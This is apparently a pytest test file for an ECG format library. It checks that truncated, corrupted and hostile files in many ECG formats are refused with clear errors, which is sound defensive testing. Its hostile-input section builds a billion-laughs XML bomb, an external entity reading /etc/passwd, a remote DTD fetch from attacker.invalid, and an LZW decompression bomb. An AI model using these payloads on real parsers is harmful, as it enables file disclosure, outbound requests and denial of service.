"""Truncated, corrupted and hostile input fails with EcgFormatError and a clear message."""

from __future__ import annotations

import base64
import io
import re
import struct
from collections.abc import Callable

import numpy as np
import pydicom
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from ecg import EcgFormatError, EcgRecord, detect_format, read_ecg
from ecg.formats import (
    read_contec_ecg90a,
    read_csv,
    read_dicom_waveform,
    read_ge_muse,
    read_hl7_aecg,
    read_philips_xml,
    read_scp_ecg,
    read_scp_ecg_healforce,
    read_wfdb,
)
from tests.fuzzing import fix_healforce_crc, fix_scp_crcs

from .conftest import FORMATS, wfdb_files

Reader = Callable[[bytes], EcgRecord]

SCP = (FORMATS / "scp_ecg/ecgtoolkit_Example.scp").read_bytes()
HEALFORCE = (FORMATS / "scp_ecg/healforce_62.SCP").read_bytes()
CONTEC = (FORMATS / "contec_ecg90a/0000053.ECG").read_bytes()
DICOM = (FORMATS / "dicom_waveform/waveform_ecg.dcm").read_bytes()
GE = (FORMATS / "ge_muse_xml/braveheart_example1.xml").read_bytes()
HL7 = (FORMATS / "hl7_aecg/Example_aECG.xml").read_bytes()
PHILIPS = (FORMATS / "philips_xml/3191723_ZZDEMOPTONLY_v1.04.xml").read_bytes()  # UTF-16
PHILIPS_UTF8 = (FORMATS / "philips_xml/129DYPRG_v1.03.XML").read_bytes()
CSV_TEXT = b"# sampling_rate_hz: 250\nI,II,III\n" + b"".join(
    b"%d,%d,%d\n" % (i, 2 * i, i) for i in range(500)
)


# --- truncation ------------------------------------------------------------------------

TRUNCATABLE: dict[str, tuple[Reader, bytes]] = {
    "scp": (read_scp_ecg, SCP),
    "healforce": (read_scp_ecg_healforce, HEALFORCE[: struct.unpack_from("<H", HEALFORCE, 4)[0]]),
    "contec": (read_contec_ecg90a, CONTEC),
    "dicom": (read_dicom_waveform, DICOM),
    "ge_muse": (read_ge_muse, GE),
    "hl7": (read_hl7_aecg, HL7),
    "philips": (read_philips_xml, PHILIPS),
    "philips_utf8_xli": (read_philips_xml, PHILIPS_UTF8),
    "philips_v1_04_01": (
        read_philips_xml,
        (FORMATS / "philips_xml/2020-5-18_15-48-11_v1.04.01.xml").read_bytes(),
    ),
    "ge_muse_paced": (read_ge_muse, (FORMATS / "ge_muse_xml/braveheart_example4.xml").read_bytes()),
    "contec_limb_only": (read_contec_ecg90a, (FORMATS / "contec_ecg90a/0000037.ECG").read_bytes()),
    "healforce_63": (
        read_scp_ecg_healforce,
        (FORMATS / "scp_ecg/healforce_63.SCP").read_bytes()[
            : struct.unpack_from("<H", (FORMATS / "scp_ecg/healforce_63.SCP").read_bytes(), 4)[0]
        ],
    ),
}


@pytest.mark.parametrize("fraction", [0.0, 0.01, 0.5, 0.9, 0.999])
@pytest.mark.parametrize("name", sorted(TRUNCATABLE))
def test_truncated_file_is_refused(name: str, fraction: float) -> None:
    reader, data = TRUNCATABLE[name]
    cut = data[: int(len(data) * fraction)]
    if reader is read_contec_ecg90a and len(cut) > 43 and (len(cut) - 43) % 16 == 0:
        # cut on a row boundary, a Contec file is a whole, shorter recording without the
        # trailer, as some carts write them (test_format_variants): cut it inside a row
        cut = cut[:-3]
    with pytest.raises(EcgFormatError):
        reader(cut)


def test_csv_cut_inside_a_row_is_refused() -> None:
    cut = CSV_TEXT[: CSV_TEXT.index(b"\n250,") + 5]  # "…\n250," : the row lost its cells
    with pytest.raises(EcgFormatError, match=r"has 2 cells, the header has 3|not a number"):
        read_csv(cut)


def test_truncated_wfdb_signal_file_is_refused() -> None:
    files = wfdb_files()
    files["s0010_re.dat"] = files["s0010_re.dat"][:-1000]
    with pytest.raises(
        EcgFormatError, match=r"holds \d+ samples per signal, the header says 38400"
    ):
        read_wfdb(files)


def test_truncated_wfdb_header_is_refused() -> None:
    files = wfdb_files()
    files["s0010_re.hea"] = files["s0010_re.hea"][:200]
    with pytest.raises(EcgFormatError, match="declares 15 signals but has"):
        read_wfdb(files)


def test_missing_wfdb_signal_file_is_named() -> None:
    files = wfdb_files()
    del files["s0010_re.xyz"]
    with pytest.raises(EcgFormatError, match=r"signal file s0010_re.xyz was not provided"):
        read_wfdb(files)


# --- corruption ------------------------------------------------------------------------


def test_scp_bit_flip_fails_the_crc() -> None:
    corrupted = bytearray(SCP)
    corrupted[20000] ^= 0x10
    with pytest.raises(EcgFormatError, match="CRC mismatch"):
        read_scp_ecg(bytes(corrupted))


def test_scp_lead_byte_count_past_section_end_is_named() -> None:
    corrupted = bytearray(SCP)
    section6 = 3819 - 1 + 16  # section 6 body (index from section 0, 1-based)
    struct.pack_into("<H", corrupted, section6 + 6, 60000)  # lead I byte count
    with pytest.raises(EcgFormatError, match="lead I declares 60000 bytes, past the section end"):
        read_scp_ecg(fix_scp_crcs(bytes(corrupted)))


def test_scp_short_huffman_stream_names_lead_and_counts() -> None:
    corrupted = bytearray(SCP)
    section3 = 329 - 1 + 16
    struct.pack_into("<I", corrupted, section3 + 2 + 4, 9000)  # lead I ends at sample 9000
    with pytest.raises(EcgFormatError, match=r"expected 9000 samples for lead I, found \d+"):
        read_scp_ecg(fix_scp_crcs(bytes(corrupted)))


def test_healforce_bit_flip_fails_the_crc() -> None:
    corrupted = bytearray(HEALFORCE)
    corrupted[5000] ^= 0x01
    with pytest.raises(EcgFormatError, match="CRC mismatch"):
        read_scp_ecg_healforce(bytes(corrupted))


def test_healforce_unknown_lead_count_is_refused() -> None:
    corrupted = bytearray(HEALFORCE)
    corrupted[178 + 16] = 5  # section 3: number of leads
    with pytest.raises(EcgFormatError, match="5 leads; only 1 or 3"):
        read_scp_ecg_healforce(fix_healforce_crc(bytes(corrupted)))


def test_contec_damaged_header_is_refused() -> None:
    corrupted = CONTEC[:10] + b"not a date at all!!" + CONTEC[29:]
    with pytest.raises(EcgFormatError, match="header missing or damaged"):
        read_contec_ecg90a(corrupted)


def test_contec_payload_not_whole_rows_is_refused() -> None:
    corrupted = CONTEC[:1000] + CONTEC[1003:]
    with pytest.raises(EcgFormatError, match="ends in the middle of a sample row"):
        read_contec_ecg90a(corrupted)


def test_dicom_sample_count_beyond_waveform_data_is_refused() -> None:
    dataset = pydicom.dcmread(io.BytesIO(DICOM))
    dataset.WaveformSequence[0].NumberOfWaveformSamples = 20000
    buffer = io.BytesIO()
    dataset.save_as(buffer)
    with pytest.raises(EcgFormatError, match=r"holds 240000 bytes, 12 channels × 20000 samples"):
        read_dicom_waveform(buffer.getvalue())


def test_dicom_garbage_is_refused() -> None:
    with pytest.raises(EcgFormatError):
        read_dicom_waveform(b"\x00" * 128 + b"DICM" + bytes(range(256)) * 4)


def test_ge_muse_corrupted_waveform_fails_its_crc32() -> None:
    rhythm = GE.index(b"<WaveformType>Rhythm")
    match = re.compile(rb"<WaveFormData>(.*?)</WaveFormData>", re.S).search(GE, rhythm)
    assert match is not None
    raw = bytearray(base64.b64decode(b"".join(match.group(1).split())))
    raw[100] ^= 0x01
    corrupted = GE[: match.start(1)] + base64.b64encode(bytes(raw)) + GE[match.end(1) :]
    with pytest.raises(EcgFormatError, match="lead I: CRC-32 mismatch"):
        read_ge_muse(corrupted)


def test_ge_muse_sample_count_mismatch_is_named() -> None:
    corrupted = GE.replace(b"<LeadSampleCountTotal>5000<", b"<LeadSampleCountTotal>5001<", 1)
    with pytest.raises(EcgFormatError, match=r"lead I: expected 5001 samples"):
        read_ge_muse(corrupted)


def test_hl7_non_numeric_digit_is_refused() -> None:
    corrupted = HL7.replace(b"<digits> -2 -2 -2", b"<digits> -2 x -2", 1)
    with pytest.raises(EcgFormatError, match="lead I: <digits> holds a non-numeric value"):
        read_hl7_aecg(corrupted)


def test_hl7_values_out_of_range_are_refused() -> None:
    corrupted = HL7.replace(b"<digits> -2 -2 -2", b"<digits> -2 1.7e308 -2", 1)
    with pytest.raises(EcgFormatError, match=r"lead I: .*give values out of range"):
        read_hl7_aecg(corrupted)


def test_hl7_leads_of_different_lengths_are_refused() -> None:
    corrupted = HL7.replace(b"<digits> -2 -2 -2", b"<digits> -2 -2", 1)
    with pytest.raises(EcgFormatError, match="leads have different lengths"):
        read_hl7_aecg(corrupted)


def test_philips_corrupted_xli_chunk_size_is_refused() -> None:
    match = re.search(rb"(<parsedwaveforms[^>]*>)(.*?)</parsedwaveforms>", PHILIPS_UTF8, re.S)
    assert match is not None
    raw = bytearray(base64.b64decode(b"".join(match.group(2).split())))
    struct.pack_into("<i", raw, 0, len(raw) * 2)
    encoded = base64.b64encode(bytes(raw))
    corrupted = PHILIPS_UTF8[: match.start(2)] + encoded + PHILIPS_UTF8[match.end(2) :]
    with pytest.raises(EcgFormatError, match="XLI chunk 1 declares"):
        read_philips_xml(corrupted)


def test_philips_corrupted_xli_stream_is_refused() -> None:
    match = re.search(rb"(<parsedwaveforms[^>]*>)(.*?)</parsedwaveforms>", PHILIPS_UTF8, re.S)
    assert match is not None
    raw = bytearray(base64.b64decode(b"".join(match.group(2).split())))
    raw[8:40] = bytes(range(200, 232))  # codes far beyond the dictionary at lead I's start
    encoded = base64.b64encode(bytes(raw))
    corrupted = PHILIPS_UTF8[: match.start(2)] + encoded + PHILIPS_UTF8[match.end(2) :]
    with pytest.raises(EcgFormatError, match=r"lead I|XLI"):
        read_philips_xml(corrupted)


def test_wfdb_corrupted_sample_fails_the_checksum() -> None:
    files = wfdb_files()
    dat = bytearray(files["s0010_re.dat"])
    dat[24 * 1000] ^= 0x01  # a sample of lead I, not the first
    files["s0010_re.dat"] = bytes(dat)
    with pytest.raises(
        EcgFormatError, match=r"signal I: checksum -8338 differs from the header's -8337"
    ):
        read_wfdb(files)


def test_wfdb_unsupported_format_is_named() -> None:
    files = wfdb_files()
    files["s0010_re.hea"] = files["s0010_re.hea"].replace(b".dat 16 ", b".dat 310 ", 1)
    with pytest.raises(EcgFormatError, match="format 310; only 16, 212 are supported"):
        read_wfdb(files)


@pytest.mark.parametrize(
    ("text", "message"),
    [
        (b"# fs: 500\nI,II\n1,2\n3,x\n", "not a number"),
        (b"# fs: 500\nI,II\n1,2\n3\n", "line 4 has 1 cells, the header has 2"),
        (b"I,II\n1,2\n3,4\n", "sampling rate unknown"),
        (b"# fs: 500\nI,I\n1,2\n3,4\n", "lead I appears twice"),
        (b"# fs: 500\n# units: furlong\nI,II\n1,2\n3,4\n", "is not a voltage"),
        (b"# fs: 500\n1,2\n3,4\n", "header row of lead names is required"),
    ],
)
def test_csv_problems_are_named(text: bytes, message: str) -> None:
    with pytest.raises(EcgFormatError, match=message):
        read_csv(text)


def test_csv_reads_units_rate_and_time_column() -> None:
    record = read_csv(b"time_ms;II [mV];V1\n0;1.0;10\n2;1.5;20\n4;2.0;30\n")
    assert record.sampling_rate_hz == pytest.approx(500.0)
    assert record.leads == ("II", "V1")
    np.testing.assert_allclose(record.lead("II"), [1000.0, 1500.0, 2000.0])
    np.testing.assert_allclose(record.lead("V1"), [10.0, 20.0, 30.0])


# --- hostile XML -----------------------------------------------------------------------

ROOTS = ["AnnotatedECG", "restingecgdata", "RestingECG"]
XML_READERS: dict[str, Reader] = {
    "AnnotatedECG": read_hl7_aecg,
    "restingecgdata": read_philips_xml,
    "RestingECG": read_ge_muse,
}


def billion_laughs(root: str) -> bytes:
    entities = '<!ENTITY lol0 "lol">' + "".join(
        f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)
    )
    return f'<?xml version="1.0"?><!DOCTYPE {root} [{entities}]><{root}>&lol9;</{root}>'.encode()


def external_entity(root: str) -> bytes:
    return (
        f'<?xml version="1.0"?><!DOCTYPE {root} [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
        f"<{root}>&xxe;</{root}>"
    ).encode()


def external_parameter_entity(root: str) -> bytes:
    return (
        f'<?xml version="1.0"?><!DOCTYPE {root} [<!ENTITY % remote SYSTEM '
        f'"http://attacker.invalid/x.dtd"> %remote;]><{root}/>'
    ).encode()


@pytest.mark.parametrize("make", [billion_laughs, external_entity, external_parameter_entity])
@pytest.mark.parametrize("root", ROOTS)
def test_hostile_xml_is_refused(root: str, make: Callable[[str], bytes]) -> None:
    with pytest.raises(EcgFormatError, match="refused hostile XML"):
        XML_READERS[root](make(root))
    with pytest.raises(EcgFormatError, match="refused hostile XML"):
        read_ecg(make(root))


# --- detection -------------------------------------------------------------------------


@pytest.mark.parametrize(
    "data",
    [b"", b"\x89PNG\r\n\x1a\n" + bytes(100), b"<?xml version='1.0'?><html/>", b"hello"],
)
def test_unrecognised_input_is_refused(data: bytes) -> None:
    with pytest.raises(EcgFormatError):
        detect_format(data)


def test_read_ecg_reads_wfdb_with_related_files() -> None:
    files = wfdb_files()
    header = files.pop("s0010_re.hea")
    record = read_ecg(header, "s0010_re.hea", related_files=files)
    assert record.leads[:3] == ("I", "II", "III")


# --- fuzzing: damaged binaries never raise anything but EcgFormatError -----------------

FUZZ_TARGETS: dict[str, tuple[Reader, bytes, Callable[[bytes], bytes]]] = {
    "scp": (read_scp_ecg, SCP, fix_scp_crcs),
    "healforce": (read_scp_ecg_healforce, HEALFORCE, fix_healforce_crc),
    "contec": (read_contec_ecg90a, CONTEC[:4000] + CONTEC[-37:], lambda data: data),
}


@pytest.mark.parametrize("name", sorted(FUZZ_TARGETS))
@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    edits=st.lists(st.tuples(st.integers(0, 10**9), st.integers(0, 255)), min_size=1, max_size=8)
)
def test_damaged_binary_files_raise_only_ecg_format_error(
    name: str, edits: list[tuple[int, int]]
) -> None:
    reader, original, fix = FUZZ_TARGETS[name]
    data = bytearray(original)
    for position, value in edits:
        data[position % 1200] = value  # headers, section tables and the first samples
    try:
        record = reader(fix(bytes(data)))
    except EcgFormatError:
        return
    assert record.samples_uv.shape[0] == len(record.leads)


def _lzw_bomb(codes: int) -> bytes:
    """An XLI stream of one chunk whose LZW codes each reach further than the last (0, 256,
    257, ... 1022: entries one byte longer every code), then the longest entry over and over:
    about 26 kB that would decode to megabytes."""
    sequence = [0, *range(256, 1023)]
    sequence += [1022] * (codes - len(sequence))
    bits = "".join(f"{code:010b}" for code in sequence) + "0" * 40
    body = int(bits, 2).to_bytes((len(bits) + 7) // 8, "big")
    return struct.pack("<iHh", len(body), 0, 0) + body


def test_philips_xli_lzw_bomb_is_refused_by_its_decoded_size() -> None:
    match = re.search(rb"(<parsedwaveforms[^>]*>)(.*?)</parsedwaveforms>", PHILIPS_UTF8, re.S)
    assert match is not None
    bomb = _lzw_bomb(20_800)
    assert len(bomb) < 27_000
    encoded = base64.b64encode(bomb)
    crafted = PHILIPS_UTF8[: match.start(2)] + encoded + PHILIPS_UTF8[match.end(2) :]
    with pytest.raises(EcgFormatError, match=r"XLI lead 1 decodes to more than 1171 KiB"):
        read_philips_xml(crafted)
